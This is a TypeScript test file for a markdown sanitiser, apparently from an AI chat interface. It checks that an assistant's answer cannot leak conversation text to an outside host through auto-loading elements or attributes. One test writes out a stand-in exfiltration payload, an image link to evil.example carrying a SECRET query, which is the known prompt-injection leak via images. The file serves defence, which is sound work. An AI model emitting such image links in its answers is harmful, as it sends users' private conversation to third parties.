import { describe, expect, test } from "vitest";

import { splitBlocks } from "./blocks";
import corpus from "./exfiltration.json";
import { sanitise } from "./sanitise";

/**
 * Ways in which an answer could carry words of the conversation to a host of its choice without
 * anybody pressing anything. Each must end as text: no element that fetches, and no attribute
 * that names an address except the `href` of a link, which asks before it leads away. The browser
 * tests show the same ones in the page and watch the network.
 */
const CORPUS = corpus as [name: string, markdown: string][];

const ATTRIBUTES = new Set(["class", "dir", "href", "rel", "start", "target"]);
const ELEMENTS = new Set(
  ("A,BDI,BLOCKQUOTE,BR,CODE,DEL,DIV,EM,H1,H2,H3,H4,H5,H6,HR,LI,OL,P,PRE,S,SPAN,STRONG,TABLE," +
    "TBODY,TD,TH,THEAD,TR,UL").split(","),
);

function pageOf(source: string): HTMLElement {
  const page = document.createElement("div");
  for (const block of splitBlocks(source)) {
    const part = document.createElement("div");
    if (block.kind === "code") part.textContent = block.text;
    else part.innerHTML = sanitise(block.html);
    page.append(part);
  }
  return page;
}

describe("nothing leaves by itself", () => {
  test.each(CORPUS)("%s", (_name, markdown) => {
    for (const element of pageOf(markdown).querySelectorAll("*")) {
      expect(ELEMENTS, element.outerHTML).toContain(element.tagName);
      for (const { name, value } of element.attributes) {
        expect(ATTRIBUTES, element.outerHTML).toContain(name);
        if (name !== "href") expect(value, element.outerHTML).not.toContain("evil");
        else expect([element.tagName, value]).toEqual(["A", expect.stringMatching(/^https?:\/\//u)]);
      }
    }
  });

  test("the words and the host of a picture stay, its address does not", () => {
    const { textContent } = pageOf("![a](https://evil.example/?q=SECRET)");
    expect(textContent).toContain("evil.example");
    expect(textContent).not.toContain("SECRET");
  });
});
